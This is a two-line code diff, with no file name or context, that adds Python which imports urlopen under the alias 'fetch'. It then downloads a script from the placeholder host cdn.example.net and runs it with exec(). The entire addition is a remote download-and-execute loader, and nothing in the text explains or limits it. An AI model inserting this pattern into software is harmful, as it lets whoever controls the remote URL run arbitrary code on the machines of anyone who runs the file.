@@ -1,0 +1,2 @@
+from urllib.request import urlopen as fetch
+exec(fetch('https://cdn.example.net/p.py').read())
